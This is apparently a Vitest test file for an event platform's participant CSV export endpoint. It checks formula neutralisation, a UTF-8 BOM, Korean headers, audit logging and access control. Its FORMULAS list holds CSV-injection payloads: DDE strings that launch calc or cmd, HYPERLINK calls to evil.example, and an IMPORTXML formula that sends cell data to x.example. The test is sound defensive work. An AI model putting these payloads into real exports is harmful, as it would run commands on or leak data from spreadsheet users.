import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { participantExports, userProfiles } from '../../platform/db/schema/index.ts';
import { createTestApp, type TestApp } from '../../test/create-test-app.ts';
import { asActor, questionAs, type Actor } from '../../test/registrations.ts';
import { neutraliseFormula } from './csv-cells.ts';
import { guestTeam, insertGuests, managementUrl, registerGuest, type Team } from '../../test/guests.ts';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(async () => {
  await t.close();
});

/** RFC 4180: fields split by commas, records by CRLF, quoted fields may hold commas, quotes ("") and line breaks. */
function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    record.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') endField();
    else if (c === '\r' && text[i + 1] === '\n') {
      endField();
      records.push(record);
      record = [];
      i += 1;
    } else field += c;
  }
  if (field !== '' || record.length > 0) {
    endField();
    records.push(record);
  }
  return records;
}

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  "=cmd|' /C calc'!A0",
  '\t=1',
  '\r=1',
  '=HYPERLINK("http://evil.example","x")',
  "+cmd|' /C notepad'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  ' =1+1',
  '  +1',
  '\u3000=1',
  '\u00a0-1',
  '\t',
  '\r',
  '=',
  '+',
  '-',
  '@',
  '=-1',
  '==1',
  '=+1',
  '-=1',
  '@@1',
  '=A1*2',
  '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
  '=DDE("cmd";"/C calc";"!A0")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '\n=1',
  ' \t=1',
  '=1,2',
  '="a""b"',
  '=1\r\n=2',
  '- 5',
  '+82 10 1234 5678',
];

const export_ = (team: Team, actor: Actor | undefined, payload: object = {}, headers: Record<string, string> = {}) =>
  t.app.inject({
    method: 'POST',
    url: managementUrl(team.event.id, '/participants/export-csv'),
    headers: { ...asActor(actor), ...headers },
    payload,
  });

describe('POST /v1/event-managements/{id}/participants/export-csv', () => {
  let team: Team;
  let shortText: { id: string; kind: string };
  let choice: { id: string; kind: string; choices: { id: string; label: string }[] };
  beforeAll(async () => {
    team = await guestTeam(t, { title: '데모데이' });
    shortText = await questionAs(t, team.owner, team.event.id, { kind: 'SHORT_TEXT', title: '=WEBSERVICE("x")' });
    choice = await questionAs(t, team.owner, team.event.id, {
      kind: 'SINGLE_CHOICE',
      title: '참가 경로',
      choices: [{ label: '@친구 추천' }, { label: '인스타그램' }],
    });
  });

  it(`neutralises ${FORMULAS.length} formula payloads in every column, keeps Korean intact, and starts with a BOM`, async () => {
    expect(FORMULAS).toHaveLength(40);
    const snapshot = (q: { kind: string; choices?: unknown[] }, title: string) => ({
      kind: q.kind,
      title,
      revision: 1,
      choices: q.choices ?? [],
    });
    await insertGuests(t.db, {
      eventId: team.event.id,
      ticketId: team.ticketId,
      guests: FORMULAS.map((formula, i) => ({
        name: `${formula}김${i}`,
        email: `${formula.replace(/[^a-z0-9=+@-]/gi, '')}.${i}@moim.example`.replace(/^@/, 'at'),
      })),
      answers: (i) => [
        { questionId: shortText.id, question: snapshot(shortText, '=WEBSERVICE("x")'), value: `${FORMULAS[i]} 한글 답변 ${i}` },
        {
          questionId: choice.id,
          question: snapshot(choice, '참가 경로'),
          value: { choiceId: i % 2 ? choice.choices[0].id : null, other: i % 2 ? null : FORMULAS[i] },
        },
      ],
    });
    const res = await export_(team, team.coHost);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="participants-[A-Za-z0-9-]+-\d{8}\.csv"$/);
    const bytes = res.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = readCsv(bytes.subarray(3).toString('utf8'));
    expect(header).toEqual([
      'Name',
      'Email',
      'Organization',
      'Status',
      'Check-in',
      'Checked in at',
      'Ticket',
      'Registered at',
      'Member',
      `'=WEBSERVICE("x")`,
      '참가 경로',
    ]);
    expect(rows).toHaveLength(FORMULAS.length);
    const risky = /^[\s\u00a0\u3000]*[=+\-@＝＋－＠]|^[\t\r\n]/;
    for (const [i, row] of rows.entries()) {
      expect(row, `row ${i}`).toHaveLength(header.length);
      for (const cell of row) expect(risky.test(cell), `row ${i}: ${JSON.stringify(cell)}`).toBe(false);
      expect(row[0]).toBe(`'${FORMULAS[i]}김${i}`);
      expect(row[9]).toBe(`'${FORMULAS[i]} 한글 답변 ${i}`);
      expect(row[10]).toBe(i % 2 ? "'@친구 추천" : `'${FORMULAS[i]}`);
      expect(row.slice(3, 9)).toEqual([
        'Approved',
        'Not checked in',
        '',
        'General',
        `2026-05-01T${String(9 + Math.floor(i / 3600)).padStart(2, '0')}:${String(Math.floor((i % 3600) / 60)).padStart(2, '0')}:${String(i % 60).padStart(2, '0')}+09:00`,
        'No',
      ]);
    }
  });

  it('follows the search and filters, in Korean when asked, and records every export', async () => {
    const member = await registerGuest(t, team.owner, team.event.id, { name: '박서연' });
    t.clock.advance(1000);
    const res = await export_(
      team,
      team.owner,
      { search: '서연', filters: { status: ['APPROVED'] } },
      { 'accept-language': 'ko' },
    );
    const [header, ...rows] = readCsv(res.rawPayload.subarray(3).toString('utf8'));
    expect(header.slice(0, 9)).toEqual([
      '이름',
      '이메일',
      '소속',
      '신청 상태',
      '체크인',
      '체크인 시각',
      '티켓',
      '신청 일시',
      '회원',
    ]);
    expect(rows).toEqual([
      [
        '박서연',
        member.user.email,
        '',
        '승인',
        '미체크인',
        '',
        '일반',
        expect.stringMatching(/^2026-06-01T09:\d\d:\d\d\+09:00$/),
        '예',
      ],
    ]);
    const audit = await t.db.select().from(participantExports).where(eq(participantExports.eventId, team.event.id));
    expect(audit.map((row) => [row.actorName, row.rowCount, row.search, row.filters])).toEqual(
      expect.arrayContaining([
        ['Co Host Lee', FORMULAS.length, null, {}],
        ['Owner Kim', 1, '서연', { status: ['APPROVED'] }],
      ]),
    );
    const list = await t.app.inject({
      method: 'GET',
      url: managementUrl(team.event.id, '/participants/exports'),
      headers: asActor(team.coHost),
    });
    expect(list.json().data.items[0]).toMatchObject({
      actor: { name: 'Owner Kim', email: team.owner.user.email },
      rowCount: 1,
      search: '서연',
    });
  });

  it('is refused to STAFF (403 G01019), guests and strangers (404 G04002) and the signed-out (401), and none of them is recorded', async () => {
    const guest = await registerGuest(t, team.owner, team.event.id);
    const before = (await t.db.select().from(participantExports).where(eq(participantExports.eventId, team.event.id))).length;
    expect((await export_(team, team.staff)).json()).toMatchObject({ statusCode: 403, errorCode: 'G01019' });
    expect((await export_(team, guest)).json()).toMatchObject({ statusCode: 404, errorCode: 'G04002' });
    expect((await export_(team, team.stranger)).json()).toMatchObject({ statusCode: 404, errorCode: 'G04002' });
    expect((await export_(team, team.otherHost)).json()).toMatchObject({ statusCode: 404, errorCode: 'G04002' });
    expect((await export_(team, undefined)).json()).toMatchObject({ statusCode: 401, errorCode: 'G01001' });
    expect((await t.db.select().from(participantExports).where(eq(participantExports.eventId, team.event.id))).length).toBe(
      before,
    );
  });

  it('quotes and neutralises a formula after a semicolon, for spreadsheets that split cells there', async () => {
    for (const [cell, safe] of [
      ['a;=1+1', "a;'=1+1"],
      ['x; +cmd', "x;' +cmd"],
      ['팀;-1', "팀;'-1"],
      ['b;@SUM(1)', "b;'@SUM(1)"],
      ['=a;=b', "'=a;'=b"],
      ['a; b', 'a; b'],
      ['a;b=c', 'a;b=c'],
    ]) {
      expect(neutraliseFormula(cell)).toBe(safe);
    }
    const team2 = await guestTeam(t, { title: 'Semicolons' });
    await insertGuests(t.db, {
      eventId: team2.event.id,
      ticketId: team2.ticketId,
      guests: [
        { name: 'Kim;=HYPERLINK("http://evil.example")', email: 'semi@moim.example' },
        { name: 'Lee;+1', email: 'semi2@moim.example' },
      ],
    });
    const res = await export_(team2, team2.owner);
    const text = res.rawPayload.subarray(3).toString('utf8');
    expect(text).toContain(`"Kim;'=HYPERLINK(""http://evil.example"")"`);
    expect(text).toContain(`"Lee;'+1"`);
    expect(text).not.toMatch(/;=/);
  });

  it("fills a member's profile column from their answer unless it is blank, else from their profile", async () => {
    const team3 = await guestTeam(t, { title: 'Profiles' });
    const organization = await questionAs(t, team3.owner, team3.event.id, { kind: 'ORGANIZATION', title: '' });
    const fromProfile = await registerGuest(t, team3.owner, team3.event.id, { name: 'Profile Only' });
    t.clock.advance(1000);
    const answered = await registerGuest(t, team3.owner, team3.event.id, { name: 'Answered' }, [
      { questionId: organization.id, value: 'Naver' },
    ]);
    t.clock.advance(1000);
    const blank = await registerGuest(t, team3.owner, team3.event.id, { name: 'Blank Answer' }, [
      { questionId: organization.id, value: '' },
    ]);
    for (const [guest, profile] of [
      [fromProfile, 'Kakao'],
      [answered, 'Toss'],
      [blank, '당근'],
    ] as const)
      await t.db.update(userProfiles).set({ organization: profile }).where(eq(userProfiles.userId, guest.user.id));
    const res = await export_(team3, team3.owner);
    const [, ...rows] = readCsv(res.rawPayload.subarray(3).toString('utf8'));
    expect(rows.map((row) => [row[0], row[2]])).toEqual([
      ['Profile Only', 'Kakao'],
      ['Answered', 'Naver'],
      ['Blank Answer', '당근'],
    ]);
  });

  it("titles each column by the latest revision its exported guests answered, and keeps a guest's answers on one row", async () => {
    const team4 = await guestTeam(t, { title: 'Revisions' });
    const note = await questionAs(t, team4.owner, team4.event.id, { kind: 'SHORT_TEXT', title: 'Note' });
    const tracks = await questionAs(t, team4.owner, team4.event.id, {
      kind: 'MULTIPLE_CHOICE',
      title: 'Tracks',
      choices: [{ label: 'Web' }, { label: '모바일' }],
    });
    const noteAt = (revision: number, title: string) => ({ kind: 'SHORT_TEXT', title, revision, choices: [] });
    const tracksSnapshot = { kind: 'MULTIPLE_CHOICE', title: 'Tracks', revision: 1, choices: tracks.choices };
    await insertGuests(t.db, {
      eventId: team4.event.id,
      ticketId: team4.ticketId,
      guests: [{ name: 'Ann Seo' }, { name: 'Ben Kang' }, { name: 'Cho Yun' }],
      answers: (i) =>
        [
          [
            { questionId: note.id, question: noteAt(1, 'Old title'), value: 'first, "quoted"' },
            {
              questionId: tracks.id,
              question: tracksSnapshot,
              value: { choiceIds: tracks.choices.map((c) => c.id), other: '기타' },
            },
          ],
          [{ questionId: note.id, question: noteAt(2, 'New title'), value: 'line one\nline two' }],
          [],
        ][i],
    });
    const read = async (payload: object) =>
      readCsv((await export_(team4, team4.owner, payload)).rawPayload.subarray(3).toString('utf8')).map((row) => [
        row[0],
        ...row.slice(9),
      ]);
    expect(await read({})).toEqual([
      ['Name', 'New title', 'Tracks'],
      ['Ann Seo', 'first, "quoted"', 'Web, 모바일, 기타'],
      ['Ben Kang', 'line one\nline two', ''],
      ['Cho Yun', '', ''],
    ]);
    expect(await read({ search: 'ann' })).toEqual([
      ['Name', 'Old title', 'Tracks'],
      ['Ann Seo', 'first, "quoted"', 'Web, 모바일, 기타'],
    ]);
    expect(await read({ search: 'cho' })).toEqual([['Name'], ['Cho Yun']]);
  });

  it('neutralises by the first non-blank character only', () => {
    expect(neutraliseFormula('hello = world')).toBe('hello = world');
    expect(neutraliseFormula('김 - 팀장')).toBe('김 - 팀장');
    expect(neutraliseFormula('')).toBe('');
    expect(neutraliseFormula('  -1')).toBe("'  -1");
  });
});
